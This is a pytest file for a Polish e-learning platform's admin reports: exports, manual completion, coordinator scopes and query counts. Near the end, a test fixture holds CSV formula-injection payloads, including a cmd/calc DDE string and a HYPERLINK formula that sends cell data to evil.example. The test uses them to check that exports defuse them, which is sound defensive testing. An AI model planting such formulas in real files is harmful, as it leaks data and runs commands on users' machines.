"""The one-course, learners and one-learner reports; manual completion and its audit trail;
coordinators limited to chosen courses; exports; query counts that do not grow."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from certificates.models import Certificate
from courses.models import CoordinatorScope, Enrolment, LessonProgress, ManualCompletion
from tests.factories import make_course, make_lesson, make_quiz
from tests.reporting.test_reports import DAY, attempt, enrol

# The course report's export columns, in order.
NAME, EMAIL, ORG, ORG_TYPE, VOIVODESHIP, TOWN, ENROLLED, STEPS, PROGRESS, LAST, BEST = range(11)
COMPLETED, MANUAL, CERTIFICATE, CODE = range(11, 15)


@pytest.fixture
def limited(django_user_model, site):
    """A coordinator limited to course B."""
    user = django_user_model.objects.create_user("ograniczona", "o@example.org", "haslo-ograniczonej")
    user.groups.add(Group.objects.get(name="Coordinators"))
    scope = CoordinatorScope.objects.create(user=user)
    scope.courses.add(site["b"])
    return user


def done(enrolment, lesson, completed=True):
    LessonProgress.objects.create(
        learner=enrolment.learner,
        lesson=lesson,
        enrolment=enrolment,
        completed_at=timezone.now() if completed else None,
    )


@pytest.fixture
def site(course_index, django_user_model):
    """Course A: lessons 1 and 2, then a quiz (3 steps). Ala did everything (40 then 80 in the
    quiz, certificate issued); Bartek finished lesson 1 and failed the quiz with 50; Celina
    opened lesson 2 only. Course B: Ala and Daria."""
    a = make_course(course_index, title="A: mikrogranty", slug="a")
    one = make_lesson(a, title="Lekcja 1")
    two = make_lesson(a, title="Lekcja 2")
    quiz = make_quiz(a, title="Quiz A")
    b = make_course(course_index, title="B: fundusz sąsiedzki", slug="b")
    make_lesson(b, title="Lekcja B")

    def person(name, **extra):
        return django_user_model.objects.create_user(
            name.lower(), f"{name.lower()}@example.org", "haslo-uczestnika-1", display_name=name, **extra
        )

    ala = person("Ala", organisation_name="Stowarzyszenie Razem", voivodeship="mazowieckie",
                 organisation_type="ngo", municipality="Warszawa")  # fmt: skip
    bartek = person(
        "Bartek", voivodeship="lodzkie", organisation_type="local_government", municipality="Łódź"
    )
    celina = person("Celina", voivodeship="lodzkie", organisation_type="ngo", municipality="Łódź")
    daria = person("Daria")
    e_ala = enrol(ala, a, days_to_complete=5)
    done(e_ala, one), done(e_ala, two)
    attempt(e_ala, quiz, 1, 40)
    attempt(e_ala, quiz, 2, 80)
    certificate = Certificate.objects.create(
        learner=ala, course=a, enrolment=e_ala, state="issued", completed_on=DAY.date(), rendered_at=DAY
    )
    e_bartek = enrol(bartek, a)
    done(e_bartek, one)
    attempt(e_bartek, quiz, 1, 50)
    e_celina = enrol(celina, a)
    done(e_celina, two, completed=False)
    enrol(ala, b)
    enrol(daria, b)
    return {
        "a": a, "b": b, "quiz": quiz, "certificate": certificate, "ala": ala, "bartek": bartek,
        "celina": celina, "daria": daria, "e_bartek": e_bartek,
    }  # fmt: skip


def export(client, url, fmt="csv", **params):
    response = client.get(url, {**params, "export": fmt})
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content)
    if fmt == "xlsx":
        return list(openpyxl.load_workbook(io.BytesIO(body)).active.values)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def by_name(rows):
    return {row[0]: row for row in rows[1:]}


def course_url(course, suffix=""):
    return f"/admin/reports/courses/{course.pk}/{suffix}"


def test_course_report_figures(client, coordinator, site):
    client.force_login(coordinator)
    rows = by_name(export(client, course_url(site["a"])))
    assert set(rows) == {"Ala", "Bartek", "Celina"}
    ala, bartek, celina = rows["Ala"], rows["Bartek"], rows["Celina"]
    assert (ala[STEPS], ala[PROGRESS], ala[BEST]) == ("3", "100", "80.00")
    assert (bartek[STEPS], bartek[PROGRESS], bartek[BEST]) == ("1", "33", "50.00")
    assert (celina[STEPS], celina[PROGRESS], celina[BEST]) == ("0", "0", "")
    assert ala[COMPLETED].startswith("2026-01-06") and bartek[COMPLETED] == ""
    assert ala[CODE] == site["certificate"].code and ala[CERTIFICATE] == "Wydany"
    assert bartek[CERTIFICATE] == "—" and ala[MANUAL] == ""
    assert (ala[EMAIL], ala[ORG], ala[TOWN]) == ("ala@example.org", "Stowarzyszenie Razem", "Warszawa")


def test_course_report_page_and_reach_chart(client, coordinator, site):
    client.force_login(coordinator)
    page = client.get(course_url(site["a"]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "A: mikrogranty" in html and "Celina" in html and "Daria" not in html
    reach = page.context["reach"]
    # (reached, completed) per step for the 3 learners.
    assert [(row["item"].title, row["reached"], row["completed"]) for row in reach] == [
        ("Lekcja 1", 2, 2),
        ("Lekcja 2", 2, 1),
        ("Quiz A", 2, 1),
    ]
    assert [row["reached_percent"] for row in reach] == [67, 67, 67]
    assert "<progress" in html
    # The chart follows the filters: Łódź learners only (Bartek, Celina).
    lodz = client.get(course_url(site["a"]), {"municipality": " Łódź "}).context["reach"]
    assert [(row["reached"], row["completed"]) for row in lodz] == [(1, 1), (1, 0), (1, 0)]


def test_course_report_filters(client, coordinator, site):
    client.force_login(coordinator)
    url = course_url(site["a"])
    assert set(by_name(export(client, url, status="completed"))) == {"Ala"}
    assert set(by_name(export(client, url, status="in_progress"))) == {"Bartek", "Celina"}
    assert set(by_name(export(client, url, voivodeship="lodzkie"))) == {"Bartek", "Celina"}
    assert set(by_name(export(client, url, organisation_type="ngo"))) == {"Ala", "Celina"}
    assert set(by_name(export(client, url, learner="razem"))) == {"Ala"}
    assert set(by_name(export(client, url, enrolled_from="2026-01-02"))) == set()
    bad = client.get(url, {"enrolled_from": "nie-data"})
    assert bad.status_code == 200 and "Wpisz poprawną datę" in bad.content.decode()


def test_course_report_xlsx(client, coordinator, site):
    client.force_login(coordinator)
    rows = export(client, course_url(site["a"]), "xlsx", status="completed")
    assert len(rows) == 2
    assert rows[1][NAME] == "Ala" and rows[1][PROGRESS] == 100 and rows[1][STEPS] == 3


def test_learners_list_and_learner_report(client, coordinator, site):
    client.force_login(coordinator)
    rows = by_name(export(client, "/admin/reports/learners/"))
    assert set(rows) == {"Ala", "Bartek", "Celina", "Daria"}
    assert rows["Ala"][6:8] == ["2", "1"]  # courses, completed
    assert set(by_name(export(client, "/admin/reports/learners/", municipality="Łódź"))) == {
        "Bartek",
        "Celina",
    }
    url = f"/admin/reports/learners/{site['ala'].pk}/"
    page = client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    assert "A: mikrogranty" in html and "B: fundusz sąsiedzki" in html and site["certificate"].code in html
    courses = by_name(export(client, url))
    assert courses["A: mikrogranty"][2:4] == ["3", "100"]
    assert courses["B: fundusz sąsiedzki"][2:4] == ["0", "0"]
    attempts = export(client, url, list="attempts")
    assert [row[1:3] + row[5:6] for row in attempts[1:]] == [
        ["Quiz A", "1", "40.00"],
        ["Quiz A", "2", "80.00"],
    ]
    xlsx = export(client, url, "xlsx", list="attempts")
    assert xlsx[2][2] == 2 and xlsx[2][7] == "tak"


def test_manual_completion_needs_a_reason_and_is_recorded(
    client, coordinator, site, django_capture_on_commit_callbacks
):
    client.force_login(coordinator)
    enrolment = site["e_bartek"]
    url = f"/admin/reports/enrolments/{enrolment.pk}/complete/"
    assert client.get(url).status_code == 200
    blank = client.post(url, {"reason": "   "})
    assert blank.status_code == 400 and "Podaj powód" in blank.content.decode()
    enrolment.refresh_from_db()
    assert enrolment.completed_at is None and not ManualCompletion.objects.exists()

    with django_capture_on_commit_callbacks(execute=False):
        response = client.post(url, {"reason": "Udział w seminarium stacjonarnym 12 maja"})
    assert response.status_code == 302 and response.url == f"/admin/reports/learners/{site['bartek'].pk}/"
    enrolment.refresh_from_db()
    assert enrolment.completed_at is not None
    record = ManualCompletion.objects.get(enrolment=enrolment)
    assert record.completed_by == coordinator and "k@example.org" in record.completed_by_name
    assert record.reason == "Udział w seminarium stacjonarnym 12 maja"
    assert Certificate.objects.get(enrolment=enrolment).state == Certificate.State.PENDING

    # Shown in the reports: the course report (page and export) and the learner's report.
    row = by_name(export(client, course_url(site["a"])))["Bartek"]
    assert "Udział w seminarium stacjonarnym 12 maja" in row[MANUAL] and "k@example.org" in row[MANUAL]
    assert row[COMPLETED] != ""
    assert "(ręcznie)" in client.get(course_url(site["a"])).content.decode()
    learner_page = client.get(f"/admin/reports/learners/{site['bartek'].pk}/").content.decode()
    assert "Udział w seminarium stacjonarnym 12 maja" in learner_page

    again = client.post(url, {"reason": "Jeszcze raz"})
    assert again.status_code == 400 and ManualCompletion.objects.count() == 1


def test_who_may_see_and_complete(client, editor, site):
    urls = [
        "/admin/reports/courses/",
        course_url(site["a"]),
        "/admin/reports/learners/",
        f"/admin/reports/learners/{site['ala'].pk}/",
        f"/admin/reports/enrolments/{site['e_bartek'].pk}/complete/",
    ]
    client.force_login(editor)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 403, url
        assert "Bartek" not in response.content.decode() and "Brak dostępu" in response.content.decode()
    assert client.post(urls[-1], {"reason": "x"}).status_code == 403
    client.force_login(site["ala"])
    for url in urls:
        assert client.get(url).status_code == 302, url  # to the admin login
    assert not ManualCompletion.objects.exists()


def test_a_coordinator_limited_to_some_courses_sees_only_those(client, limited, site):
    client.force_login(limited)
    overview = client.get("/admin/reports/courses/")
    assert "B: fundusz sąsiedzki" in overview.content.decode()
    assert "A: mikrogranty" not in overview.content.decode()
    assert client.get(course_url(site["a"])).status_code == 404
    assert client.get(course_url(site["b"])).status_code == 200
    assert set(by_name(export(client, "/admin/reports/learners/"))) == {"Ala", "Daria"}
    assert client.get(f"/admin/reports/learners/{site['bartek'].pk}/").status_code == 404
    ala = client.get(f"/admin/reports/learners/{site['ala'].pk}/")
    assert "B: fundusz sąsiedzki" in ala.content.decode() and "A: mikrogranty" not in ala.content.decode()
    assert export(client, f"/admin/reports/learners/{site['ala'].pk}/", list="attempts")[1:] == []
    assert (
        client.post(f"/admin/reports/enrolments/{site['e_bartek'].pk}/complete/", {"reason": "x"}).status_code
        == 404
    )
    certificate = site["certificate"]
    assert certificate.code not in client.get("/admin/certificates/").content.decode()
    assert client.get(f"/admin/certificates/{certificate.pk}/manage/").status_code == 404
    assert client.get(f"/certyfikat/{certificate.verification_id}/pdf/").status_code == 404
    batches = client.get("/admin/certificates/courses/").content.decode()
    assert "B: fundusz sąsiedzki" in batches and "A: mikrogranty" not in batches
    refused = client.post("/admin/certificates/courses/", {"course": site["a"].pk, "action": "resend"})
    assert refused.status_code == 400
    # A scope without courses shows nothing.
    limited.coordinator_scope.courses.clear()
    assert "B: fundusz sąsiedzki" not in client.get("/admin/reports/courses/").content.decode()


def test_administrators_set_the_scope_coordinators_cannot(client, admin_user, coordinator, site):
    client.force_login(coordinator)
    assert client.get("/admin/coordinator-courses/").status_code in (302, 403)
    client.force_login(admin_user)
    response = client.post(
        "/admin/coordinator-courses/new/", {"user": coordinator.pk, "courses": [site["b"].pk]}
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    assert list(CoordinatorScope.objects.get(user=coordinator).courses.all()) == [site["b"]]


def many_learners(django_user_model, course, lessons, quiz, count):
    users = django_user_model.objects.bulk_create(
        [django_user_model(username=f"u{n}", email=f"u{n}@example.org") for n in range(count)]
    )
    for n, user in enumerate(users):
        enrolment = enrol(user, course, days_to_complete=n % 7 if n % 2 else None)
        for lesson in lessons[: n % 3]:
            done(enrolment, lesson)
        attempt(enrolment, quiz, 1, 50 + n % 50)
    return users


@pytest.mark.parametrize("learners", [10, 200], ids=["10-learners", "200-learners"])
def test_query_counts_do_not_grow_with_learners(
    client, coordinator, course_index, django_user_model, django_assert_max_num_queries, learners
):
    course = make_course(course_index, title="Duży kurs", slug="duzy")
    lessons = [make_lesson(course, title=f"Lekcja {n}") for n in range(3)]
    quiz = make_quiz(course)
    users = many_learners(django_user_model, course, lessons, quiz, learners)
    ManualCompletion.objects.create(
        enrolment=Enrolment.objects.filter(completed_at__isnull=False).first(),
        completed_by=coordinator,
        completed_by_name="K",
        reason="Seminarium",
    )
    client.force_login(coordinator)
    for url, limit in [
        (course_url(course), 18),
        ("/admin/reports/learners/", 12),
        (f"/admin/reports/learners/{users[1].pk}/", 20),
    ]:
        client.get(url)
        with django_assert_max_num_queries(limit):
            assert client.get(url).status_code == 200


@pytest.mark.parametrize("courses", [1, 12], ids=["1-course", "12-courses"])
def test_learner_report_query_count_does_not_grow_with_courses(
    client, coordinator, course_index, django_user_model, django_assert_max_num_queries, courses
):
    learner = django_user_model.objects.create_user("uczen", "uczen@example.org", "haslo-ucznia-12")
    for n in range(courses):
        course = make_course(course_index, title=f"Kurs {n}", slug=f"kurs-{n}")
        lesson = make_lesson(course, title="Lekcja")
        enrolment = enrol(learner, course, days_to_complete=2)
        done(enrolment, lesson)
        attempt(enrolment, make_quiz(course), 1, 90)
    client.force_login(coordinator)
    url = f"/admin/reports/learners/{learner.pk}/"
    client.get(url)
    with django_assert_max_num_queries(20):
        assert client.get(url).status_code == 200


def test_full_export_streams_in_chunks(client, coordinator, course_index, django_user_model, settings):
    """The CSV export is a stream read from the database in chunks, every row present once."""
    course = make_course(course_index, title="Duży kurs", slug="duzy")
    lessons = [make_lesson(course, title="Lekcja")]
    quiz = make_quiz(course)
    many_learners(django_user_model, course, lessons, quiz, 25)
    client.force_login(coordinator)
    from reporting.reports import StreamingExportMixin

    original = StreamingExportMixin.export_chunk_size
    StreamingExportMixin.export_chunk_size = 10
    try:
        response = client.get(course_url(course), {"export": "csv"})
        assert response.streaming
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    finally:
        StreamingExportMixin.export_chunk_size = original
    assert len(rows) == 26 and len({row[EMAIL] for row in rows[1:]}) == 25


def test_unknown_ids_are_404(client, coordinator, site):
    client.force_login(coordinator)
    assert client.get("/admin/reports/courses/999999/").status_code == 404
    assert client.get("/admin/reports/learners/999999/").status_code == 404
    assert client.get("/admin/reports/enrolments/999999/complete/").status_code == 404
    # A user enrolled nowhere has no learner report.
    assert client.get(f"/admin/reports/learners/{coordinator.pk}/").status_code == 404


def test_dates_in_exports_are_local(client, coordinator, site):
    client.force_login(coordinator)
    row = by_name(export(client, course_url(site["a"])))["Ala"]
    assert row[ENROLLED].startswith(str(timezone.localtime(DAY).date()))
    assert datetime.date.fromisoformat(row[ENROLLED][:10]) == datetime.date(2026, 1, 1)


def test_no_manual_completion_for_a_deleted_account(client, coordinator, site):
    bartek = site["bartek"]
    bartek.anonymised_at = timezone.now()
    bartek.save()
    client.force_login(coordinator)
    assert "Oznacz jako ukończony" not in client.get(f"/admin/reports/learners/{bartek.pk}/").content.decode()
    response = client.post(
        f"/admin/reports/enrolments/{site['e_bartek'].pk}/complete/", {"reason": "Seminarium"}
    )
    assert response.status_code == 400 and "usunięte lub wyłączone" in response.content.decode()
    assert not ManualCompletion.objects.exists() and not Certificate.objects.filter(learner=bartek).exists()
    assert "Konto usunięte" in by_name(export(client, course_url(site["a"])))


def test_an_export_with_invalid_filters_is_refused(client, coordinator, site):
    client.force_login(coordinator)
    for url in (
        course_url(site["a"]),
        "/admin/reports/courses/",
        f"/admin/reports/quizzes/{site['quiz'].pk}/",
    ):
        response = client.get(url, {"enrolled_from": "2026-13-45", "export": "csv"})
        assert response.status_code == 400, url
        assert (
            "Filtry są niepoprawne" in response.content.decode()
            and "Wpisz poprawną datę" in response.content.decode()
        )


def test_huge_ids_are_not_found(client, coordinator):
    client.force_login(coordinator)
    for url in (
        "/admin/reports/courses/99999999999999999999/",
        "/admin/reports/learners/99999999999999999999/",
        "/admin/reports/quizzes/99999999999999999999/",
        "/admin/certificates/99999999999999999999/manage/",
    ):
        assert client.get(url).status_code == 404, url


def test_unpublished_steps_count_in_neither_report(client, coordinator, site):
    """Both reports count the course's live, public steps only, so they agree."""
    site["a"].get_children().get(title="Lekcja 2").specific.unpublish()
    client.force_login(coordinator)
    bartek = by_name(export(client, course_url(site["a"])))["Bartek"]
    assert (bartek[STEPS], bartek[PROGRESS]) == ("1", "50")
    mine = by_name(export(client, f"/admin/reports/learners/{site['bartek'].pk}/"))["A: mikrogranty"]
    assert mine[2:4] == ["1", "50"]


def test_exports_follow_the_admin_language(client, coordinator, site):
    from wagtail.users.models import UserProfile

    profile = UserProfile.get_for_user(coordinator)
    profile.preferred_language = "en"
    profile.save()
    client.force_login(coordinator)
    rows = export(client, course_url(site["a"]))
    assert rows[0][:2] == ["Learner", "Email"] and rows[0][COMPLETED] == "Completion date"


FORMULAS = {
    "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organisation_name": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "municipality": "+48 Łęcka",
}


def test_exports_open_safely_and_in_polish(client, coordinator, site, django_user_model):
    """Text that a spreadsheet would run as a formula is written with an apostrophe in front, in
    every CSV export; the CSV starts with a byte order mark and says it is UTF-8, so Excel
    reads "Łęcka"; the XLSX keeps the text as text on a sheet named after the report."""
    evil = django_user_model.objects.create_user("zly", "zly@example.org", "haslo-zlego-123", **FORMULAS)
    enrol(evil, site["a"])
    client.force_login(coordinator)
    for url in (course_url(site["a"]), "/admin/reports/learners/", f"/admin/reports/learners/{evil.pk}/"):
        response = client.get(url, {"export": "csv"})
        assert response["Content-Type"] == "text/csv; charset=utf-8", url
        body = b"".join(response.streaming_content)
        assert body.startswith(b"\xef\xbb\xbf"), url
        text = body.decode("utf-8-sig")
        for value in FORMULAS.values():
            if value in text:
                assert f"'{value}" in text, (url, value)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], url
    rows = by_name(export(client, course_url(site["a"])))
    assert rows["'" + FORMULAS["display_name"]][ORG] == "'" + FORMULAS["organisation_name"]
    assert rows["'" + FORMULAS["display_name"]][TOWN] == "'+48 Łęcka"

    response = client.get(course_url(site["a"]), {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["A – mikrogranty"]
    values = [cell for row in workbook.active.iter_rows() for cell in row]
    evil_cell = next(cell for cell in values if cell.value == FORMULAS["organisation_name"])
    assert evil_cell.data_type == "s"


def test_a_long_or_odd_report_title_makes_a_valid_sheet_name(client, coordinator, course_index):
    title = "Kurs [pilotażowy]: mikrogranty/fundusz? * część pierwsza"
    course = make_course(course_index, title=title, slug="dlugi")
    make_lesson(course, title="Lekcja")
    client.force_login(coordinator)
    response = client.get(course_url(course), {"export": "xlsx"})
    (name,) = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).sheetnames
    assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
    assert name == "Kurs – pilotażowy – mikrogranty"
